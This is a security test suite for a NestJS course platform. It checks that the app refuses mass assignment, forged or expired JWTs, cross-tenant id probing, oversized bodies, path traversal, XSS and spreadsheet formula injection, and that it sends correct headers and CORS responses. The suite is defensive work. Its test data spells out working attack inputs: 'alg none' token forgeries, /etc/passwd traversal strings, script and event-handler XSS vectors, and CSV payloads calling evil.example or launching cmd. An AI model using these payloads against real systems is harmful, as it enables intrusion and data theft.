/**
 * Abuse cases (issue 11, point 4): mass assignment, forged and stale JWTs, tenants probing
 * each other's ids, oversized bodies, path traversal, XSS in names and lesson content,
 * formula injection in exports, security headers, CORS and session cookies.
 *
 * The role × route matrix over every route lives in access-matrix.test.ts (identity); here
 * the complementary property: for another tenant's real ids an outsider's answer is exactly
 * the answer for ids that do not exist, so nothing reveals that the object is there.
 */
import { createHmac, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { RequestMethod } from '@nestjs/common';
import { METHOD_METADATA, PATH_METADATA } from '@nestjs/common/constants.js';
import { ModulesContainer, Reflector } from '@nestjs/core';
import { KINDLING_CONFIG, type KindlingConfig } from '@kindling/config';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { POLICY_KEY, type Policy } from '../../apps/api/src/common/auth/policy.js';
import { startTestApp, type TestApp, unique } from '../support/app.js';
import { addMember, createCohort, createOrganization, createPublishedCourse, createUser, enrol, TEST_PASSWORD, type TestCourse, type TestUser } from '../support/fixtures.js';

let t: TestApp;
let config: KindlingConfig;
/** Each file gets its own source address, so the shared sign-in limits of 127.0.0.1 stay untouched. */
const ip = () => `2001:db8:5ec::${Math.floor(Math.random() * 0xffff).toString(16)}`;

function expectErrorShape(res: Response, status: number): void {
  expect(res.status).toBe(status);
  expect(res.headers['content-type']).toMatch(/application\/json/);
  expect(res.body).toMatchObject({ statusCode: status, error: expect.any(String) });
  const m: unknown = res.body.message;
  expect(typeof m === 'string' || (Array.isArray(m) && m.every((x) => typeof x === 'string'))).toBe(true);
}

const messageOf = (res: Response): string => {
  const m: unknown = res.body?.message;
  return Array.isArray(m) ? m.join('; ') : String(m);
};

beforeAll(async () => {
  t = await startTestApp();
  config = t.app.get<KindlingConfig>(KINDLING_CONFIG);
});
afterAll(async () => {
  await t?.close();
});

// ---------------------------------------------------------------------------------------------

describe('mass assignment: privileged fields in bodies are refused with 400 naming them', () => {
  let author: TestUser;
  let manager: TestUser;
  let learner: TestUser;
  let orgId: string;
  let otherOrgId: string;
  let course: TestCourse;
  let enrolmentId: string;

  beforeAll(async () => {
    author = await createUser(t, { platformRoles: ['author'] });
    manager = await createUser(t);
    learner = await createUser(t);
    orgId = await createOrganization(t);
    otherOrgId = await createOrganization(t);
    await addMember(t, orgId, manager.id, 'manager');
    await addMember(t, orgId, learner.id, 'learner');
    course = await createPublishedCourse(t, { authorId: author.id });
    const cohortId = await createCohort(t, { organizationId: orgId, courseId: course.courseId });
    enrolmentId = await enrol(t, { userId: learner.id, course, cohortId, organizationId: orgId });
  });

  it.each([
    ['platformRoles', ['admin']],
    ['role', 'admin'],
    ['userId', '00000000-0000-0000-0000-000000000001'],
    ['isAdmin', true],
  ])('POST /api/auth/register with %s → 400, and no account is created', async (field, value) => {
    const email = `${unique('massreg')}@example.test`;
    const res = await t.http
      .post('/api/auth/register')
      .set('X-Forwarded-For', ip())
      .send({ email, password: 'a long enough passphrase 42', name: 'Mallory', [field]: value });
    expectErrorShape(res, 400);
    expect(messageOf(res)).toContain(field);
    const rows: unknown[] = await t.db.query(`SELECT 1 FROM users WHERE lower(email) = lower($1)`, [email]);
    expect(rows).toHaveLength(0);
  });

  it('PATCH /api/me with platformRoles → 400, and the caller gains no role', async () => {
    const res = await t.http.patch('/api/me').set('Authorization', learner.auth).send({ name: 'Learner', platformRoles: ['admin'] });
    expectErrorShape(res, 400);
    expect(messageOf(res)).toContain('platformRoles');
    const me = await t.http.get('/api/me').set('Authorization', learner.auth).expect(200);
    expect(me.body.platformRoles).toEqual([]);
  });

  it.each([
    ['status', 'published'],
    ['authorId', '00000000-0000-0000-0000-000000000001'],
    ['version', 7],
  ])('POST /api/courses with %s → 400', async (field, value) => {
    const res = await t.http.post('/api/courses').set('Authorization', author.auth).send({ title: unique('Mass'), locale: 'en', [field]: value });
    expectErrorShape(res, 400);
    expect(messageOf(res)).toContain(field);
  });

  it.each([
    ['organizationId', () => otherOrgId],
    ['status', () => 'archived'],
  ])('POST /api/organizations/:orgId/cohorts with %s → 400', async (field, value) => {
    const res = await t.http
      .post(`/api/organizations/${orgId}/cohorts`)
      .set('Authorization', manager.auth)
      .send({ name: unique('Cohort'), courseId: course.courseId, audience: 'health-staff', [field]: value() });
    expectErrorShape(res, 400);
    expect(messageOf(res)).toContain(field);
    const rows: unknown[] = await t.db.query(`SELECT 1 FROM cohorts WHERE organization_id = $1`, [otherOrgId]);
    expect(rows).toHaveLength(0);
  });

  it('POST /api/attempts/:id/submission with score, scorePercent or passed → 400; the attempt is not used up', async () => {
    const quizId = course.quizIds[0]!;
    const attempt = await t.http.post(`/api/enrolments/${enrolmentId}/quizzes/${quizId}/attempts`).set('Authorization', learner.auth).expect(201);
    const wrong = course.answers[quizId]!.map((q) => ({ questionId: q.questionId, optionIds: q.wrong }));
    for (const [field, value] of [['score', 100], ['scorePercent', 100], ['passed', true]] as const) {
      const res = await t.http.post(`/api/attempts/${attempt.body.id}/submission`).set('Authorization', learner.auth).send({ answers: wrong, [field]: value });
      expectErrorShape(res, 400);
      expect(messageOf(res)).toContain(field);
    }
    // The nested answers are whitelisted too.
    const nested = await t.http
      .post(`/api/attempts/${attempt.body.id}/submission`)
      .set('Authorization', learner.auth)
      .send({ answers: wrong.map((a) => ({ ...a, correct: true })) });
    expectErrorShape(nested, 400);
    expect(messageOf(nested)).toContain('correct');
    // The real, all-wrong submission still grades as written.
    const graded = await t.http.post(`/api/attempts/${attempt.body.id}/submission`).set('Authorization', learner.auth).send({ answers: wrong }).expect(200);
    expect(graded.body).toMatchObject({ scorePercent: 0, passed: false });
  });

  it('POST /api/organizations/:orgId/members cannot hand out a platform role', async () => {
    const res = await t.http.post(`/api/organizations/${orgId}/members`).set('Authorization', manager.auth).send({ email: learner.email, role: 'admin' });
    expectErrorShape(res, 400);
    const extra = await t.http
      .post(`/api/organizations/${orgId}/members`)
      .set('Authorization', manager.auth)
      .send({ email: learner.email, role: 'learner', platformRoles: ['admin'] });
    expectErrorShape(extra, 400);
    expect(messageOf(extra)).toContain('platformRoles');
  });

  it('__proto__ and constructor keys in a body are refused and pollute nothing', async () => {
    const body = '{"title":"Proto","locale":"en","__proto__":{"isAdmin":true,"platformRoles":["admin"]},"constructor":{"prototype":{"polluted":1}}}';
    const res = await t.http.post('/api/courses').set('Authorization', author.auth).set('Content-Type', 'application/json').send(body);
    expect(res.status).toBe(400);
    expectErrorShape(res, 400);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

// ---------------------------------------------------------------------------------------------

describe('access tokens: forged, stale or foreign JWTs are refused with 401', () => {
  let user: TestUser;
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');
  const sign = (header: object, payload: object, secret: string, alg: 'sha256' | 'sha512' = 'sha256') => {
    const head = `${b64(header)}.${b64(payload)}`;
    return `${head}.${createHmac(alg, secret).update(head).digest('base64url')}`;
  };
  const now = () => Math.floor(Date.now() / 1000);
  const claims = (over: Record<string, unknown> = {}) => ({ sub: user.id, iss: config.jwtIssuer, aud: config.jwtAudience, iat: now(), exp: now() + 600, ...over });

  beforeAll(async () => {
    user = await createUser(t, { platformRoles: ['admin'] });
  });

  it('a correctly signed token works (the control)', async () => {
    await t.http.get('/api/me').set('Authorization', `Bearer ${sign({ alg: 'HS256', typ: 'JWT' }, claims(), config.jwtSecret)}`).expect(200);
  });

  const cases: [string, () => string][] = [
    ['alg none, no signature', () => `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.`],
    ['alg none with the real signature', () => {
      const good = sign({ alg: 'HS256', typ: 'JWT' }, claims(), config.jwtSecret);
      return `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.${good.split('.')[2]}`;
    }],
    ['alg "None" (case games)', () => `${b64({ alg: 'None', typ: 'JWT' })}.${b64(claims())}.`],
    ['HS512 with the right key (algorithm not allowed)', () => sign({ alg: 'HS512', typ: 'JWT' }, claims(), config.jwtSecret, 'sha512')],
    ['a wrong key', () => sign({ alg: 'HS256', typ: 'JWT' }, claims(), 'not-the-kindling-secret-but-long-enough-0123456789')],
    ['expired a minute ago', () => sign({ alg: 'HS256', typ: 'JWT' }, claims({ iat: now() - 1000, exp: now() - 60 }), config.jwtSecret)],
    ['no expiry at all', () => sign({ alg: 'HS256', typ: 'JWT' }, { sub: user.id, iss: config.jwtIssuer, aud: config.jwtAudience, iat: now() }, config.jwtSecret)],
    ['the wrong audience', () => sign({ alg: 'HS256', typ: 'JWT' }, claims({ aud: 'some-other-api' }), config.jwtSecret)],
    ['the wrong issuer', () => sign({ alg: 'HS256', typ: 'JWT' }, claims({ iss: 'evil' }), config.jwtSecret)],
    ['a tampered payload (another user) under the original signature', () => {
      const good = sign({ alg: 'HS256', typ: 'JWT' }, claims(), config.jwtSecret).split('.');
      return `${good[0]}.${b64(claims({ sub: randomUUID() }))}.${good[2]}`;
    }],
    ['a valid signature for a user that does not exist', () => sign({ alg: 'HS256', typ: 'JWT' }, claims({ sub: randomUUID() }), config.jwtSecret)],
    ['a subject that is not a UUID', () => sign({ alg: 'HS256', typ: 'JWT' }, claims({ sub: "' OR 1=1 --" }), config.jwtSecret)],
    ['garbage', () => 'not.a.jwt'],
  ];

  it.each(cases)('%s → 401 as a bearer token', async (_name, make) => {
    const res = await t.http.get('/api/me').set('Authorization', `Bearer ${make()}`);
    expectErrorShape(res, 401);
  });

  it.each(cases)('%s → 401 in the kindling_at cookie', async (_name, make) => {
    const res = await t.http.get('/api/me').set('Cookie', `kindling_at=${make()}`);
    expectErrorShape(res, 401);
  });

  it('a forged token on a mutating admin route changes nothing', async () => {
    const victim = await createUser(t);
    const forged = `${b64({ alg: 'none', typ: 'JWT' })}.${b64(claims())}.`;
    const res = await t.http.put(`/api/users/${victim.id}/platform-roles`).set('Authorization', `Bearer ${forged}`).send({ roles: ['admin'] });
    expectErrorShape(res, 401);
    const rows: { platform_roles: string[] }[] = await t.db.query(`SELECT platform_roles FROM users WHERE id = $1`, [victim.id]);
    expect(rows[0]!.platform_roles).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('sessions: cookies and refresh tokens', () => {
  it('session cookies are httpOnly and SameSite=Strict; the refresh cookie only travels to /api/auth', async () => {
    const user = await createUser(t);
    const res = await t.http.post('/api/auth/login').set('X-Forwarded-For', ip()).send({ email: user.email, password: TEST_PASSWORD }).expect(200);
    const cookies = ([] as string[]).concat(res.headers['set-cookie'] ?? []);
    const access = cookies.find((c) => c.startsWith('kindling_at='));
    const refresh = cookies.find((c) => c.startsWith('kindling_rt='));
    expect(access).toMatch(/HttpOnly/i);
    expect(access).toMatch(/SameSite=Strict/i);
    expect(refresh).toMatch(/HttpOnly/i);
    expect(refresh).toMatch(/Path=\/api\/auth/i);
  });

  it('a replayed refresh token ends the whole session family', async () => {
    const user = await createUser(t);
    const login = await t.http.post('/api/auth/login').set('X-Forwarded-For', ip()).send({ email: user.email, password: TEST_PASSWORD, refreshTokenInBody: true }).expect(200);
    const first = login.body.refreshToken as string;
    const rotated = await t.http.post('/api/auth/refresh').send({ refreshToken: first }).expect(200);
    const second = rotated.body.refreshToken as string;
    expect(second).not.toBe(first);
    const replay = await t.http.post('/api/auth/refresh').send({ refreshToken: first });
    expectErrorShape(replay, 401);
    // The thief replayed first; the legitimate holder's newer token is now dead too.
    const after = await t.http.post('/api/auth/refresh').send({ refreshToken: second });
    expectErrorShape(after, 401);
  });
});

// ---------------------------------------------------------------------------------------------

interface NestRoute {
  method: string;
  path: string;
  policy: Policy | undefined;
}

function nestRoutes(): NestRoute[] {
  const reflector = t.app.get(Reflector);
  const out: NestRoute[] = [];
  const join = (...parts: string[]) => '/' + parts.flatMap((p) => p.split('/')).filter(Boolean).join('/');
  for (const module of t.app.get(ModulesContainer).values()) {
    for (const wrapper of module.controllers.values()) {
      const ctrl = wrapper.metatype as (new (...args: never[]) => unknown) | null;
      if (!ctrl || typeof ctrl !== 'function') continue;
      const base = Reflect.getMetadata(PATH_METADATA, ctrl) as string | string[] | undefined;
      const proto = ctrl.prototype as Record<string, unknown>;
      for (const name of Object.getOwnPropertyNames(proto)) {
        const fn = proto[name];
        if (name === 'constructor' || typeof fn !== 'function') continue;
        const path = Reflect.getMetadata(PATH_METADATA, fn) as string | string[] | undefined;
        const method = Reflect.getMetadata(METHOD_METADATA, fn) as RequestMethod | undefined;
        if (path === undefined || method === undefined) continue;
        const policy = reflector.getAllAndOverride<Policy | undefined>(POLICY_KEY, [fn as () => void, ctrl]);
        for (const b of Array.isArray(base) ? base : [base ?? '']) {
          for (const p of Array.isArray(path) ? path : [path]) out.push({ method: RequestMethod[method], path: join('api', b, p), policy });
        }
      }
    }
  }
  return out;
}

interface Schema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  minimum?: number;
  minItems?: number;
}
interface OpenApiDoc {
  paths: Record<string, Record<string, { requestBody?: { content?: Record<string, { schema?: Schema }> } }>>;
  components?: { schemas?: Record<string, Schema> };
}

/** The smallest body the schema accepts (required fields only, plausible values). */
function minimalBody(doc: OpenApiDoc, raw: Schema | undefined, depth = 0): unknown {
  let s = raw;
  if (s?.$ref) s = doc.components?.schemas?.[s.$ref.split('/').pop() ?? ''];
  if (s?.allOf?.[0]) return minimalBody(doc, s.allOf[0], depth + 1);
  if (!s || depth > 6) return {};
  if (s.enum && s.enum.length > 0) return s.enum[0];
  switch (s.type ?? (s.properties ? 'object' : undefined)) {
    case 'string':
      return s.format === 'uuid' ? randomUUID() : s.format === 'email' ? `${unique('idor')}@example.test` : s.format === 'date' ? '2030-01-01' : 'A reason long enough';
    case 'integer':
    case 'number':
      return Math.max(s.minimum ?? 1, 1);
    case 'boolean':
      return false;
    case 'array':
      return s.minItems ? Array.from({ length: s.minItems }, () => minimalBody(doc, s.items, depth + 1)) : [];
    case 'object':
      return Object.fromEntries((s.required ?? []).map((k) => [k, minimalBody(doc, s.properties?.[k], depth + 1)]));
    default:
      return {};
  }
}

describe('IDOR: another tenant probing real ids learns nothing', () => {
  /** Tenant A's objects: a course by author A, a cohort in org A, learner A's enrolment, attempt and certificate. */
  const ids: Record<string, string> = {};
  let outsiders: Record<string, TestUser>;

  beforeAll(async () => {
    const authorA = await createUser(t, { platformRoles: ['author'] });
    const learnerA = await createUser(t);
    const managerA = await createUser(t);
    const orgA = await createOrganization(t, unique('IDOR A'));
    const orgB = await createOrganization(t, unique('IDOR B'));
    await addMember(t, orgA, learnerA.id, 'learner');
    await addMember(t, orgA, managerA.id, 'manager');
    const course = await createPublishedCourse(t, { authorId: authorA.id, selfEnrolment: false });
    const cohortId = await createCohort(t, { organizationId: orgA, courseId: course.courseId });
    const enrolmentId = await enrol(t, { userId: learnerA.id, course, cohortId, organizationId: orgA });
    const attempt = await t.http.post(`/api/enrolments/${enrolmentId}/quizzes/${course.quizIds[0]}/attempts`).set('Authorization', learnerA.auth);
    const certificateId = randomUUID();
    await t.db.query(
      `INSERT INTO certificates (id, enrolment_id, organization_id, user_id, number, holder_name, course_title, locale, hours, completed_at)
       VALUES ($1, $2, $3, $4, $5, 'Learner A', 'Course', 'en', 4, now())`,
      [certificateId, enrolmentId, orgA, learnerA.id, `IDR-${randomUUID().slice(0, 12)}`],
    ).catch(() => undefined); // the certificates schema may differ; the other ids still cover their routes
    Object.assign(ids, {
      orgId: orgA,
      courses: course.courseId,
      modules: course.moduleIds[0]!,
      lessons: course.lessonIds[0]!,
      quizzes: course.quizIds[0]!,
      cohorts: cohortId,
      enrolments: enrolmentId,
      attempts: typeof attempt.body?.id === 'string' ? attempt.body.id : randomUUID(),
      certificates: certificateId,
      users: learnerA.id,
      lessonId: course.lessonIds[0]!,
      quizId: course.quizIds[0]!,
      userId: learnerA.id,
    });
    const managerB = await createUser(t);
    const learnerB = await createUser(t);
    const authorB = await createUser(t, { platformRoles: ['author'] });
    await addMember(t, orgB, managerB.id, 'manager');
    await addMember(t, orgB, learnerB.id, 'learner');
    outsiders = { managerB, learnerB, authorB };
  });

  /** Routes whose rule lets any signed-in user see a published course (its outline), or that are public. */
  const openToOutsiders = (route: NestRoute) =>
    route.policy?.kind === 'public' ||
    route.policy?.kind === 'platform-role' ||
    (route.policy?.kind === 'scoped' && route.policy.access === 'reader');

  let doc: OpenApiDoc;
  beforeAll(async () => {
    doc = (await t.http.get('/api/docs-json').expect(200)).body as OpenApiDoc;
  });

  it('for every id-bearing route, an outsider gets the same answer for a real id of tenant A as for an unknown id, and never a 2xx', async () => {
    const routes = nestRoutes().filter((r) => /:[A-Za-z]+/.test(r.path) && !openToOutsiders(r));
    expect(routes.length).toBeGreaterThan(10);
    const failures: string[] = [];
    for (const route of routes) {
      const segments = route.path.split('/');
      const fill = (real: boolean) =>
        segments
          .map((seg, i) => {
            if (!seg.startsWith(':')) return seg;
            const name = seg.slice(1);
            if (name === 'phase') return 'pre';
            const id = ids[name] ?? ids[segments[i - 1] ?? ''];
            return real && id ? id : randomUUID();
          })
          .join('/');
      for (const [who, user] of Object.entries(outsiders)) {
        const method = route.method.toLowerCase() as 'get' | 'post' | 'put' | 'patch' | 'delete';
        // A body that passes validation where the schema allows, so the service's scoped query is what answers.
        const body = minimalBody(doc, doc.paths[route.path.replace(/:([A-Za-z0-9_]+)/g, '{$1}')]?.[method]?.requestBody?.content?.['application/json']?.schema);
        const call = async (path: string) => {
          const req = t.http[method](path).set('Authorization', user.auth).set('X-Forwarded-For', ip());
          return ['post', 'put', 'patch'].includes(method) ? req.send(body as object) : req;
        };
        const real = await call(fill(true));
        const unknown = await call(fill(false));
        const where = `${route.method} ${route.path} as ${who}`;
        if (real.status < 300) failures.push(`${where}: ${real.status} for tenant A's object`);
        else if (real.status !== unknown.status || messageOf(real) !== messageOf(unknown)) {
          failures.push(`${where}: real id → ${real.status} "${messageOf(real)}", unknown id → ${unknown.status} "${messageOf(unknown)}"`);
        }
      }
    }
    expect(failures).toEqual([]);
  }, 120_000);
});

// ---------------------------------------------------------------------------------------------

describe('oversized bodies are refused with 413 and the error shape', () => {
  const limitBytes = () => {
    const m = /^(\d+)(kb|mb)$/i.exec(config.bodyLimit)!;
    return Number(m[1]) * (m[2]!.toLowerCase() === 'mb' ? 1024 * 1024 : 1024);
  };

  it('a JSON body over the limit → 413', async () => {
    const body = `{"email":"${'a'.repeat(limitBytes() + 1024)}","password":"x"}`;
    const res = await t.http.post('/api/auth/login').set('X-Forwarded-For', ip()).set('Content-Type', 'application/json').send(body);
    expectErrorShape(res, 413);
  });

  it('a URL or header beyond what the HTTP parser takes → 431 with the error shape (not an empty answer)', async () => {
    const longUrl = await t.http.get(`/api/verify/${'a'.repeat(20_000)}`);
    expectErrorShape(longUrl, 431);
    const longHeader = await t.http.get('/api/health').set('X-Padding', 'b'.repeat(20_000));
    expectErrorShape(longHeader, 431);
  });

  it('a CSV upload over the limit → 413', async () => {
    const manager = await createUser(t);
    const orgId = await createOrganization(t);
    await addMember(t, orgId, manager.id, 'manager');
    const author = await createUser(t, { platformRoles: ['author'] });
    const course = await createPublishedCourse(t, { authorId: author.id });
    const cohortId = await createCohort(t, { organizationId: orgId, courseId: course.courseId });
    const line = 'someone@example.test,Some One\n';
    const csv = `email,name\n${line.repeat(Math.ceil((limitBytes() + 1024) / line.length))}`;
    const res = await t.http.post(`/api/cohorts/${cohortId}/enrolments`).set('Authorization', manager.auth).set('Content-Type', 'text/csv').send(csv);
    expectErrorShape(res, 413);
    const rows: { n: number }[] = await t.db.query(`SELECT count(*)::int AS n FROM enrolments WHERE cohort_id = $1`, [cohortId]);
    expect(rows[0]!.n).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------

describe('path traversal through ids and names', () => {
  const traversals = ['..%2F..%2F..%2Fetc%2Fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%5C..%5Cwindows%5Cwin.ini', '%252e%252e%252fetc%252fpasswd'];

  it.each(traversals)('%s as an id is a clean 4xx, never a file', async (segment) => {
    const admin = await createUser(t, { platformRoles: ['admin'] });
    for (const path of [`/api/certificates/${segment}/pdf`, `/api/verify/${segment}`, `/api/courses/${segment}`, `/api/jobs/${segment}/result`]) {
      const res = await t.http.get(path).set('Authorization', admin.auth).set('X-Forwarded-For', ip());
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expectErrorShape(res, res.status);
      expect(JSON.stringify(res.body)).not.toMatch(/root:x:0:0|\[fonts\]/);
    }
  });

  it.each(['/..%2f..%2f..%2fetc%2fpasswd', '/assets/..%2f..%2f..%2f..%2fetc%2fpasswd', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/assets/%2e%2e%5c%2e%2e%5cpackage.json'])(
    'the web app never serves a file outside its folder: %s',
    async (path) => {
      const res = await t.http.get(path);
      // 503 only when the web app is not built (the SPA fallback then says so); never a file from outside.
      expect([200, 301, 302, 400, 403, 404, 503]).toContain(res.status);
      expect(res.text ?? '').not.toMatch(/root:x:0:0|"name":\s*"kindling"/);
    },
  );

  it('a name that looks like a path is stored and returned as plain text', async () => {
    const author = await createUser(t, { platformRoles: ['author'] });
    const title = '../../../etc/passwd';
    const created = await t.http.post('/api/courses').set('Authorization', author.auth).send({ title, locale: 'en' }).expect(201);
    const outline = await t.http.get(`/api/courses/${created.body.id}`).set('Authorization', author.auth).expect(200);
    expect(outline.body.title).toBe(title);
  });
});

// ---------------------------------------------------------------------------------------------

describe('XSS: names and lesson content stay inert', () => {
  const payload = '<script>alert("xss")</script><img src=x onerror=alert(1)>';

  it('a user name with markup is returned as JSON text, with nosniff, never as HTML', async () => {
    const user = await createUser(t);
    await t.http.patch('/api/me').set('Authorization', user.auth).send({ name: payload }).expect(200);
    const me = await t.http.get('/api/me').set('Authorization', user.auth).expect(200);
    expect(me.body.name).toBe(payload);
    expect(me.headers['content-type']).toMatch(/^application\/json/);
    expect(me.headers['x-content-type-options']).toBe('nosniff');
  });

  it('a course title with markup is JSON text; lesson HTML is sanitised (GET /api/lessons/:id bodyHtml)', async () => {
    const author = await createUser(t, { platformRoles: ['author'] });
    const course = await t.http.post('/api/courses').set('Authorization', author.auth).send({ title: payload, locale: 'en' }).expect(201);
    const module = await t.http.post(`/api/courses/${course.body.id}/modules`).set('Authorization', author.auth).send({ title: payload }).expect(201);
    const body = [
      'Hello',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[click](javascript:alert(1))',
      '<a href="jav&#x61;script:alert(1)">x</a>',
      '<iframe src="https://evil.example"></iframe>',
      '<svg onload=alert(1)></svg>',
      '<div style="background:url(javascript:alert(1))">s</div>',
    ].join('\n\n');
    const lesson = await t.http.post(`/api/modules/${module.body.id}/lessons`).set('Authorization', author.auth).send({ title: payload, body }).expect(201);
    const got = await t.http.get(`/api/lessons/${lesson.body.id}`).set('Authorization', author.auth).expect(200);
    expect(got.headers['content-type']).toMatch(/^application\/json/);
    expect(got.body.title).toBe(payload);
    const html = String(got.body.bodyHtml);
    expect(html).toContain('Hello');
    expect(html).not.toMatch(/<script|<iframe|<svg|\son\w+\s*=|javascript:|jav&#x61;script|style=/i);
    const outline = await t.http.get(`/api/courses/${course.body.id}`).set('Authorization', author.auth).expect(200);
    expect(outline.body.title).toBe(payload);
  });

  it('the web app renders raw HTML in exactly one place, the server-sanitised lesson bodyHtml', async () => {
    const { readdir, readFile } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const root = join(process.cwd(), 'apps', 'web', 'src');
    const files: string[] = [];
    const walk = async (dir: string): Promise<void> => {
      for (const entry of await readdir(dir, { withFileTypes: true }).catch(() => [])) {
        const full = join(dir, entry.name);
        if (entry.isDirectory()) await walk(full);
        else if (/\.(tsx?|jsx?)$/.test(entry.name)) files.push(full);
      }
    };
    await walk(root);
    const raw: string[] = [];
    for (const file of files) {
      const text = await readFile(file, 'utf8');
      for (const m of text.matchAll(/dangerouslySetInnerHTML=\{\{\s*__html:\s*([^}]+)\}\}|\.innerHTML\s*=|\beval\(|new Function\(/g)) {
        const expr = m[1]?.trim() ?? m[0];
        if (!/\.bodyHtml$/.test(expr)) raw.push(`${file.slice(root.length + 1)}: ${expr}`);
      }
    }
    expect(raw).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('exports: spreadsheet formula injection is neutralised', () => {
  const evilNames = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\t=1+1'];
  let manager: TestUser;
  let cohortId: string;

  beforeAll(async () => {
    manager = await createUser(t);
    const author = await createUser(t, { platformRoles: ['author'] });
    const orgId = await createOrganization(t);
    await addMember(t, orgId, manager.id, 'manager');
    const course = await createPublishedCourse(t, { authorId: author.id });
    cohortId = await createCohort(t, { organizationId: orgId, courseId: course.courseId });
    for (const name of evilNames) {
      const learner = await createUser(t, { name });
      await addMember(t, orgId, learner.id, 'learner');
      await enrol(t, { userId: learner.id, course, cohortId, organizationId: orgId });
    }
  });

  it('GET /api/cohorts/:id/progress?format=csv prefixes formula-like cells so spreadsheets show them as text', async () => {
    const res = await t.http.get(`/api/cohorts/${cohortId}/progress?format=csv`).set('Authorization', manager.auth).buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const text = res.text;
    for (const name of evilNames) {
      // Every cell holding the name starts with the neutralising apostrophe (quoted or not).
      expect(text).toContain(`'${name.replace(/"/g, '""')}`);
    }
    const cells = text.split(/\r?\n/).flatMap((line) => line.split(','));
    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c) && !/^"?-?\d/.test(c))).toEqual([]);
  });

  it('GET /api/cohorts/:id/progress?format=xlsx stores the names as text, never as formulas', async () => {
    const res = await t.http
      .get(`/api/cohorts/${cohortId}/progress?format=xlsx`)
      .set('Authorization', manager.auth)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as Parameters<typeof book.xlsx.load>[0]);
    const found: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) found.push(`formula in ${cell.address}: ${String(cell.formula)}`);
          if (typeof cell.value === 'string' && /^[=+\-@\t]/.test(cell.value) && !/^-?\d/.test(cell.value)) found.push(`${cell.address}: ${cell.value}`);
        }),
      ),
    );
    expect(found).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('security headers and CORS', () => {
  it('helmet headers are on API answers, and X-Powered-By is off', async () => {
    const res = await t.http.get('/api/health');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/default-src 'self'/);
    expect(res.headers['content-security-policy']).toMatch(/object-src 'none'/);
    expect(res.headers['content-security-policy']).toMatch(/frame-ancestors 'self'/);
    expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers['strict-transport-security']).toMatch(/max-age=\d+/);
    expect(res.headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(res.headers['x-powered-by']).toBeUndefined();
  });

  it('error answers carry the same headers', async () => {
    const res = await t.http.get('/api/no-such-route');
    expect(res.status).toBe(404);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBeDefined();
  });

  it('CORS is closed: a foreign Origin gets no Access-Control-Allow-Origin, on requests or preflights', async () => {
    const user = await createUser(t);
    const simple = await t.http.get('/api/me').set('Origin', 'https://evil.example').set('Authorization', user.auth);
    expect(simple.headers['access-control-allow-origin']).toBeUndefined();
    expect(simple.headers['access-control-allow-credentials']).toBeUndefined();
    const preflight = await t.http
      .options('/api/auth/login')
      .set('Origin', 'https://evil.example')
      .set('Access-Control-Request-Method', 'POST')
      .set('Access-Control-Request-Headers', 'content-type,authorization');
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
    expect(preflight.headers['access-control-allow-methods']).toBeUndefined();
  });
});
